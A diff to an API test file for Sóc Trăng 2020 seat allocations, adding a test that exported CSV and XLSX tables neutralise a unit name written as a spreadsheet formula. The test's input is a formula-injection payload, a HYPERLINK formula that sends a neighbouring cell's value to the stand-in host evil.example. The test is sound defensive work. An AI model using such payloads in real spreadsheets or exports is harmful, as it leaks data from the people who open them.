@@ -1,8 +1,15 @@
 """Sóc Trăng 2020: from the printed plan to adopted quotas and accepted nominees, over HTTP."""
 
+import csv
+from io import BytesIO
+from zipfile import ZipFile
+
 import httpx
 import pytest
+from python_calamine import load_workbook
 
+from api.tables import CSV, XLSX
+from service.spreadsheets import meant
 from tests.client import Client
 from tests.journeys.scenes import Prepare, Scene
 from tests.journeys.soc_trang import (
@@ -146,6 +153,23 @@ async def test_the_seats_come_as_a_table_too(client: Client, congress: Json) -> 
         path, headers={"Accept": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
     )
     assert book.content.startswith(b"PK")
+
+
+async def test_a_unit_that_calls_itself_a_formula_is_a_name_in_every_table(
+    client: Client, congress: Json
+) -> None:
+    name = '=HYPERLINK("https://evil.example?"&B2,"x");@SUM(A1)'
+    unit = {"code": "so-thu-nghiem", "name": name, "kind": "department", "valid_from": "2020-01-01"}
+    made = await client.post("/v1/units", {**unit, "parents": {CONGRESS: "tinh-soc-trang"}, "made_up": True})
+    await report(client, made.json()["id"], staff=100)
+    path = f"/v1/allocations/{(await allocated(client, congress)).json()['id']}/seats"
+    table = (await client.get(path, headers={"Accept": CSV})).content
+    (cell,) = [row[1] for row in csv.reader(table.decode("utf-8-sig").splitlines()) if "evil" in row[1]]
+    assert cell == '\'=HYPERLINK("https://evil.example?"&B2,"x");\'@SUM(A1)'
+    assert meant(cell) == name
+    book = (await client.get(path, headers={"Accept": XLSX})).content
+    assert name in [row[1] for row in load_workbook(BytesIO(book)).get_sheet_by_index(0).to_python()]
+    assert b"<f" not in ZipFile(BytesIO(book)).read("xl/worksheets/sheet1.xml")
 
 
 async def test_missing_figures_stop_the_allocation_and_name_the_units(client: Client, congress: Json) -> None:
